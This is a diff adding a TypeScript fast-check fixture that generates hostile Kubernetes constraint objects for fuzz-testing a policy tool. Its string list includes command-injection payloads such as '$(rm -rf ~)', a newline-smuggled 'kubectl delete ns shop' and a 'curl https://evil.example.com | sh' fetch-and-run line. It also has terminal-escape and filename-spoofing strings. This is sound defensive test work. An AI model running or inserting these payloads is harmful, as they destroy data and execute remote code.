@@ -1,0 +1,198 @@
+/**
+ * Constraints as an attacker would write them into a cluster, beyond what the API server lets through: of any form, with any
+ * text in every place that holds one.
+ */
+import * as fc from 'fast-check';
+import {
+  type Constraint,
+  constraintId,
+  constraintTypes,
+  Effect,
+  type Rule,
+  severities,
+} from '../../crds/constraint.ts';
+import type { LabelSelector } from '../../crds/label-selector.ts';
+
+/** Any text, those among it that a shell, a terminal, YAML or kubectl would act on. */
+export const hostileText: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(
+    'web',
+    '$(rm -rf ~)',
+    '`id`',
+    "'; touch x; '",
+    '"; touch x; "',
+    String.raw`\'; touch x #`,
+    'a\nkubectl delete ns shop',
+    '--kubeconfig=/tmp/x',
+    '-rf',
+    'a,b in (c)',
+    '\u001b[2Jgone',
+    '\u202egnp.exe',
+    'a\u200bb',
+    '\ud800',
+    'yes',
+    '1e3',
+    '*',
+    '&& curl https://evil.example.com | sh',
+    '- item: value # comment',
+    // Properties that every object has.
+    'toString',
+    'constructor',
+    '__proto__',
+    'x'.repeat(400),
+    '',
+  ),
+  fc.string({ unit: 'binary', maxLength: 30 }),
+  fc.stringMatching(/^[a-z][a-z0-9-]{0,20}[a-z0-9]$/),
+);
+
+const texts = fc.array(hostileText, { maxLength: 3 });
+const amount = fc.constantFrom('0', '1', '2', '100m', '1Gi', '-1', '1e3', 'much', '1\n');
+const amounts = fc.option(
+  fc.dictionary(fc.oneof(fc.constantFrom('cpu', 'memory'), hostileText), amount, { maxKeys: 3 }),
+  {
+    nil: undefined,
+  },
+);
+
+const selector: fc.Arbitrary<LabelSelector> = fc.record(
+  {
+    matchLabels: fc.dictionary(hostileText, hostileText, { maxKeys: 2 }),
+    matchExpressions: fc.array(
+      fc.record({
+        key: hostileText,
+        operator: fc.constantFrom('In' as const, 'NotIn' as const, 'Exists' as const, 'DoesNotExist' as const),
+        values: texts,
+      }),
+      { maxLength: 2 },
+    ),
+  },
+  { requiredKeys: [] },
+);
+
+const peer = fc.oneof(
+  fc.record({ ipBlock: fc.record({ cidr: hostileText, except: texts }) }),
+  fc.record({ pods: fc.record({ namespace: hostileText, podSelector: selector }) }),
+  fc.record({ pods: fc.record({ namespaceSelector: selector, podSelector: selector }) }),
+);
+const port = fc.record(
+  { protocol: hostileText, port: fc.oneof(hostileText, fc.integer()), endPort: fc.integer() },
+  { requiredKeys: ['protocol'] },
+);
+const count = fc.oneof(fc.integer(), hostileText);
+const optional = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: undefined });
+
+/** One arbitrary for each form of rule. */
+export const hostileRules: { readonly [Form in Rule['form']]: fc.Arbitrary<Rule> } = {
+  cel: fc.record({
+    form: fc.constant('cel' as const),
+    binding: hostileText,
+    failurePolicy: fc.constantFrom('Fail' as const, 'Ignore' as const),
+    broken: optional(fc.constantFrom('kindNotServed' as const, 'noParameters' as const)),
+    variables: fc.array(fc.record({ name: hostileText, expression: hostileText }), { maxLength: 1 }),
+    validations: optional(fc.array(fc.record({ expression: hostileText, message: hostileText }), { maxLength: 6 })),
+    mutations: optional(
+      fc.array(fc.record({ patchType: fc.constant('JSONPatch' as const), expression: hostileText }), { maxLength: 3 }),
+    ),
+    unread: optional(texts),
+  }),
+  disruption: fc.record(
+    { form: fc.constant('disruption' as const), minAvailable: count, maxUnavailable: count },
+    { requiredKeys: ['form'] },
+  ),
+  limitRange: fc.record({
+    form: fc.constant('limitRange' as const),
+    on: fc.constantFrom('Container' as const, 'Pod' as const, 'PersistentVolumeClaim' as const),
+    min: amounts,
+    max: amounts,
+    default: amounts,
+    defaultRequest: amounts,
+    maxLimitRequestRatio: amounts,
+  }),
+  network: fc.record({
+    form: fc.constant('network' as const),
+    direction: fc.constantFrom('Ingress' as const, 'Egress' as const),
+    allow: fc.array(
+      fc.record({
+        path: hostileText,
+        peers: optional(fc.array(peer, { maxLength: 4 })),
+        ports: optional(fc.array(port, { maxLength: 8 })),
+        unread: optional(texts),
+      }),
+      { maxLength: 8 },
+    ),
+  }),
+  opaque: fc.record({ form: fc.constant('opaque' as const), fields: texts }),
+  podSecurity: fc.record({
+    form: fc.constant('podSecurity' as const),
+    mode: fc.constantFrom('enforce' as const, 'audit' as const, 'warn' as const),
+    level: fc.constantFrom('privileged' as const, 'baseline' as const, 'restricted' as const),
+    version: hostileText,
+    implied: fc.boolean(),
+  }),
+  quota: fc.record({
+    form: fc.constant('quota' as const),
+    hard: fc.dictionary(hostileText, amount, { maxKeys: 3 }),
+    enforced: fc.boolean(),
+    scopes: fc.array(
+      fc.record({ scopeName: hostileText, operator: fc.constantFrom('In' as const, 'Exists' as const), values: texts }),
+      { maxLength: 3 },
+    ),
+  }),
+  webhook: fc.record({
+    form: fc.constant('webhook' as const),
+    mutating: fc.boolean(),
+    failurePolicy: fc.constantFrom('Fail' as const, 'Ignore' as const),
+    timeoutSeconds: fc.integer({ min: 1, max: 30 }),
+    sideEffects: optional(fc.constantFrom('None' as const, 'Unknown' as const)),
+    service: optional(fc.record({ namespace: hostileText, name: hostileText })),
+    carries: optional(fc.constant('kyverno' as const)),
+    unread: optional(texts),
+  }),
+};
+
+const kind = fc.constantFrom('NetworkPolicy', 'ResourceQuota', 'LimitRange', 'PodDisruptionBudget', 'Namespace');
+const apiVersion = fc.constantFrom('v1', 'networking.k8s.io/v1', 'policy/v1', 'example.com/v1', '');
+
+/** Of any form, or of those that are given. */
+export function hostileConstraint(
+  rules: readonly fc.Arbitrary<Rule>[] = Object.values(hostileRules),
+): fc.Arbitrary<Constraint> {
+  return fc.record({
+    id: hostileText.map((name) => constraintId(name, '')),
+    name: hostileText,
+    key: hostileText,
+    type: fc.constantFrom(...constraintTypes),
+    severity: fc.constantFrom(...severities),
+    effect: fc.constantFrom(...Effect.options),
+    summary: hostileText,
+    message: hostileText,
+    source: fc.record({
+      apiVersion: fc.oneof(apiVersion, hostileText),
+      kind: fc.oneof(kind, hostileText),
+      name: hostileText,
+      namespace: optional(fc.oneof(fc.constant('shop'), hostileText)),
+    }),
+    scope: fc.record({
+      namespaces: fc.record({ selector }),
+      workloads: optional(fc.record({ selector })),
+      admission: optional(
+        fc.array(
+          fc.record({
+            objectSelector: selector,
+            matchConditions: fc.array(fc.record({ name: hostileText, expression: hostileText }), { maxLength: 2 }),
+          }),
+          { maxLength: 2 },
+        ),
+      ),
+    }),
+    rule: fc.oneof(...rules),
+    metrics: optional(
+      fc.dictionary(
+        fc.oneof(fc.constantFrom('pods', 'requests.cpu', 'count/secrets'), hostileText),
+        fc.record({ hard: amount, used: amount }),
+        { maxKeys: 4 },
+      ),
+    ),
+  });
+}
